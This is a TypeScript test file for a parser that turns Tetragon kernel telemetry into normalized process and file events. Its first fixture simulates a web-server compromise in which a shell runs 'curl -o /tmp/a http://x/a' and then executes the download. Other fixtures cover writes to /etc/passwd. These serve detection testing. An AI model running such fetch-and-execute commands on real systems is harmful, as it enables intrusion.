import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { EventOf, TelemetryEvent } from "@limpid/core";
import { describe, expect, it, test } from "vitest";
import { corpusPath } from "../../../../../tests/support/corpus.ts";
import { processorMs } from "../../../../../tests/support/processor-time.ts";
import { accountedFor, readLog } from "../../testing/read.ts";
import { TetragonLog } from "../../testing/tetragon-log.ts";
import { recogniseSource } from "../index.ts";
import { tetragon } from "./source.ts";

const samples = corpusPath("telemetry", "tetragon");

function of<K extends TelemetryEvent["kind"]>(told: readonly TelemetryEvent[], kind: K): readonly EventOf<K>[] {
  return told.filter((event): event is EventOf<K> => event.kind === kind);
}

describe("a drop", () => {
  const log = new TetragonLog();
  const server = log.running("/usr/sbin/nginx", 33);
  const shell = log.spawn(server, "/bin/sh", '-c "curl -o /tmp/a http://x/a"');
  const curl = log.exec(shell, "/usr/bin/curl", "-o /tmp/a http://x/a");
  log.write(curl, "/tmp/a").exit(curl);
  const agent = log.spawn(server, "/tmp/a");
  log.exit(agent, { signal: "SIGKILL", status: 0 });
  const { events } = readLog(tetragon, log.log);

  it("is told from the shell to the end", () => {
    expect(events.map(({ kind }) => kind)).toEqual([
      "account.named",
      "process.executed",
      "process.executed",
      "file.written",
      "process.exited",
      "process.executed",
      "process.exited",
    ]);
    expect(events[1]).toMatchObject({
      host: "node-1",
      time: "2026-11-22T06:00:00.002000326Z",
      image: "/bin/sh",
      argv: ["/bin/sh", "-c", "curl -o /tmp/a http://x/a"],
      argvComplete: false,
      process: { pid: shell.pid, ppid: server.pid, uid: 33, loginUser: null, cwd: "/srv", container: "5".repeat(64) },
    });
    expect(events[3]).toMatchObject({ file: { path: "/tmp/a", mode: 0o100644 }, finished: false });
    expect(of(events, "process.exited").map(({ code }) => code)).toEqual([0, 137]);
  });

  it("knows the same process behind the next image", () => {
    const [first, second] = of(events, "process.executed");
    expect(second?.argvComplete).toBe(true);
    expect(second?.process.formerSensorId).toBe(first?.process.sensorId);
    expect(second?.process.parentSensorId).toBe(server.execId);
    expect(second?.process.ppid).toBe(server.pid);
    expect(first?.process).not.toHaveProperty("formerSensorId");
  });
});

describe("calls that policies watch", () => {
  const file = { file_arg: { path: "/tmp/a" } };
  test.each([
    { name: "security_file_permission", args: [file, { int_arg: 2 }], made: [{ kind: "file.written" }] },
    { name: "security_file_permission", args: [file, { int_arg: 4 }], made: [] },
    { name: "security_file_permission", args: [file], made: [] },
    {
      name: "security_mmap_file",
      args: [file, { uint_arg: 3 }, { uint_arg: 1 }],
      made: [{ kind: "file.written" }],
    },
    { name: "security_mmap_file", args: [file, { uint_arg: 3 }, { uint_arg: 2 }], made: [] },
    { name: "security_path_truncate", args: [{ path_arg: { path: "/tmp/a" } }], made: [{ kind: "file.truncated" }] },
    {
      name: "__x64_sys_write",
      args: [file, { bytes_arg: "AA==" }, { size_arg: "2" }],
      made: [{ kind: "file.written" }],
    },
    { name: "__arm64_sys_write", args: [file, { size_arg: "2" }], made: [{ kind: "file.written" }] },
    { name: "/sys_write", args: [file], made: [{ kind: "file.written" }] },
    { name: "fd_install", args: [{ int_arg: 3 }, file], made: [] },
    { name: "file_open", args: [file], made: [] },
    {
      name: "__x64_sys_openat",
      args: [{ int_arg: -100 }, { string_arg: "b" }, { int_arg: 0x241 }],
      made: [
        {
          kind: "file.opened",
          created: false,
          truncated: true,
          file: { path: "/srv/b", pathBasis: "joined" },
        },
      ],
    },
    {
      name: "sys_openat",
      args: [{ int_arg: 5 }, { string_arg: "b" }, { int_arg: 0xc1 }],
      made: [{ kind: "file.opened", created: true, file: { path: "b", pathBasis: "unknown-directory" } }],
    },
    { name: "sys_openat", args: [{ int_arg: -100 }, { string_arg: "/b" }, { int_arg: 0 }], made: [] },
    { name: "sys_creat", args: [{ string_arg: "/b" }], made: [{ kind: "file.opened", truncated: true }] },
    {
      name: "sys_renameat2",
      args: [{ int_arg: -100 }, { string_arg: "a" }, { int_arg: -100 }, { string_arg: "/b" }],
      made: [{ kind: "file.renamed", from: { path: "/srv/a" }, to: { path: "/b" } }],
    },
    {
      name: "sys_link",
      args: [{ string_arg: "/a" }, { string_arg: "/b" }],
      made: [{ kind: "file.linked", from: { path: "/a" }, to: { path: "/b" } }],
    },
    { name: "sys_unlink", args: [{ string_arg: "/a" }], made: [{ kind: "file.removed", file: { path: "/a" } }] },
    {
      name: "sys_fchmodat",
      args: [{ int_arg: -100 }, { string_arg: "/a" }, { int_arg: 0o755 }],
      made: [{ kind: "file.mode-changed", mode: 0o755 }],
    },
    { name: "sys_memfd_create", args: [{ string_arg: "x" }], made: [{ kind: "memory-file.created" }] },
    { name: "tcp_connect", args: [{ sock_arg: {} }], made: [] },
  ])("$name $args", ({ name, args, made }) => {
    const log = new TetragonLog();
    log.call(log.running("/bin/x", 7), name, args);
    const { events, counts } = readLog(tetragon, log.log);
    expect(events.filter(({ kind }) => kind !== "account.named")).toMatchObject(made);
    expect(accountedFor(counts)).toBe(1);
  });

  test.each([
    { what: "failed", rest: { return: { int_arg: -13 } } },
    { what: "was stopped", rest: { action: "KPROBE_ACTION_OVERRIDE" } },
  ])("a call that $what changes nothing", ({ rest }) => {
    const log = new TetragonLog();
    log.call(log.running("/bin/x"), "security_file_permission", [file, { int_arg: 2 }], rest);
    expect(readLog(tetragon, log.log).events).toEqual([]);
  });

  test.each([
    { file: { path: "etc/passwd" }, path: "/etc/passwd", pathBasis: "absolute" },
    { file: { path: "/x/y", flags: "unresolvedPathComponents" }, path: "/x/y", pathBasis: "none" },
  ])("the path of $file", ({ file: written, ...expected }) => {
    const log = new TetragonLog();
    log.call(log.running("/bin/x"), "sys_write", [{ file_arg: written }]);
    expect(of(readLog(tetragon, log.log).events, "file.written")).toMatchObject([{ file: expected }]);
  });

  it("a pipe is no file", () => {
    const log = new TetragonLog();
    log.call(log.running("/bin/x"), "sys_write", [{ file_arg: { path: "pipe:[77]" } }]);
    expect(readLog(tetragon, log.log).events).toEqual([]);
  });

  it("a hash that IMA took goes with the execution behind it", () => {
    const log = new TetragonLog();
    const shell = log.running("/bin/sh");
    log.say({
      process_lsm: {
        process: { exec_id: shell.execId, pid: shell.pid },
        function_name: "bprm_check_security",
        args: [{ linux_binprm_arg: { path: "/tmp/a", permission: "-rwxr-xr-x" } }],
        ima_hash: `sha256:${"A".repeat(64)}`,
      },
    });
    log.spawn(shell, "/tmp/a");
    log.spawn(shell, "/tmp/a");
    const executed = of(readLog(tetragon, log.log).events, "process.executed");
    expect(executed.map(({ file }) => file.sha256)).toEqual(["a".repeat(64), undefined]);
  });
});

describe("flags and values", () => {
  function executed(args: string, flags: string, change: (line: string) => string = (line) => line) {
    const log = new TetragonLog();
    log.spawn(log.running("/bin/sh"), "/tmp/a", args, flags);
    return of(readLog(tetragon, change(log.log)).events, "process.executed")[0];
  }

  test.each([
    { args: "-a -b", flags: "execve clone", argv: ["/tmp/a", "-a", "-b"], argvComplete: true },
    { args: "", flags: "execve clone", argv: ["/tmp/a"], argvComplete: true },
    { args: "-a -b", flags: "execve truncArgs", argv: ["/tmp/a", "-a", "-b"], argvComplete: false },
    { args: '-c "a  b" "" c"d', flags: "execve", argv: ["/tmp/a", "-c", "a  b", "", 'c"d'], argvComplete: false },
    { args: '"never closed', flags: "execve", argv: ["/tmp/a", "never closed"], argvComplete: false },
    { args: "a  b", flags: "execve", argv: ["/tmp/a", "a", "b"], argvComplete: false },
  ])("arguments $args with $flags", ({ args, flags, ...expected }) => {
    expect(executed(args, flags)).toMatchObject(expected);
  });

  it("a process that was there before did not execute now", () => {
    expect(executed("", "procFS auid")).toBeUndefined();
  });

  it("rootcwd is the root, and a relative binary begins in the directory", () => {
    expect(executed("", "execve rootcwd", (log) => log.replaceAll('"/srv"', '""'))?.process.cwd).toBe("/");
    expect(executed("", "execve", (log) => log.replaceAll('"/srv"', '""'))?.process.cwd).toBeUndefined();
    expect(executed("", "execve", (log) => log.replaceAll('"/tmp/a"', '"./a"'))?.file).toMatchObject({
      path: "/srv/a",
      pathBasis: "joined",
    });
  });

  it("a file without a name, whose bytes are no UTF-8", () => {
    const file =
      '"binary_properties":{"file":{"inode":{"number":"18446744073709551615","links":0},"path":"/memfd:\xff"}},';
    const event = executed("", "execve", (log) => log.replaceAll('"binary":', `${file}"binary":`));
    expect(event?.file).toMatchObject({ path: "/memfd:\udcff" });
  });
});

test("integers of 64 bits are told apart", () => {
  const log = new TetragonLog();
  const shell = log.running("/bin/sh");
  for (const size_arg of ["18446744073709551614", "18446744073709551615"]) {
    log.call(shell, "sys_write", [{ file_arg: { path: "/tmp/a" } }, { size_arg }]);
  }
  const [first = "", second = ""] = log.lines;
  const sameTime = second.replace(/"time":"[^"]*"/, /"time":"[^"]*"/.exec(first)?.[0] ?? "");
  expect(of(readLog(tetragon, `${first}\n${sameTime}\n`).events, "file.written")).toHaveLength(2);
});

test("what rate limits dropped is counted, and the same line twice is one event", () => {
  const log = new TetragonLog();
  const shell = log.running("/bin/sh");
  log.write(shell, "/tmp/a").say({ rate_limit_info: { number_of_dropped_process_events: "12" } });
  const { events, counts } = readLog(tetragon, `${log.log}${log.log}`);
  expect(of(events, "events.lost")).toMatchObject([{ count: 12, host: "node-1" }]);
  expect(of(events, "file.written")).toHaveLength(1);
  expect(counts).toMatchObject({ lost: { "node-1": 12 }, skipped: { duplicate: 2 } });
});

test.each([
  { name: "arguments of quotes", args: `"${'" "'.repeat(100_000)}` },
  { name: "arguments of blanks", args: " ".repeat(500_000) },
])("hostile $name take no time", ({ args }) => {
  const log = new TetragonLog();
  log.spawn(log.running("/bin/sh"), "/tmp/a", args);
  const began = processorMs();
  expect(accountedFor(readLog(tetragon, log.log).counts)).toBe(1);
  expect(processorMs() - began).toBeLessThan(2000);
});

describe.skipIf(samples === undefined)("events of the project's own documents", () => {
  const names = samples === undefined ? [] : readdirSync(samples).filter((name) => !name.endsWith(".txt"));

  it.each(names)("%s", (name) => {
    const log = readFileSync(join(samples ?? "", name), "latin1");
    expect(recogniseSource(log)?.name).toBe("tetragon");
    const { events, counts } = readLog(tetragon, log);
    expect(counts).toMatchObject({ linesRead: 1, skipped: {} });
    const [first] = events;
    if (/process_exec|execution|-bash|-init|nsenter|docs_events/.test(name))
      expect(first?.kind).toBe("process.executed");
    else if (name.includes("exit")) expect(first?.kind).toBe("process.exited");
    else if (!name.includes("kprobe")) expect(events).toEqual([]);
  });

  it("an editor that writes /etc/passwd", () => {
    const { events } = readLog(tetragon, readFileSync(join(samples ?? "", "tetragon_process_kprobe.json"), "latin1"));
    expect(events).toMatchObject([
      {
        kind: "file.written",
        file: { path: "/etc/passwd" },
        process: { image: "/usr/bin/vi", pid: 36318, ppid: 36222 },
      },
    ]);
  });
});

test("is known by an execution that is longer than a head", () => {
  const log = new TetragonLog();
  log.exec(log.running("/usr/bin/bash", 0), "/usr/bin/printf", "x".repeat(100_000));
  expect(recogniseSource((log.log.split("\n").find((line) => line.length > 100_000) ?? "").slice(0, 65_536))).toBe(
    tetragon,
  );
});
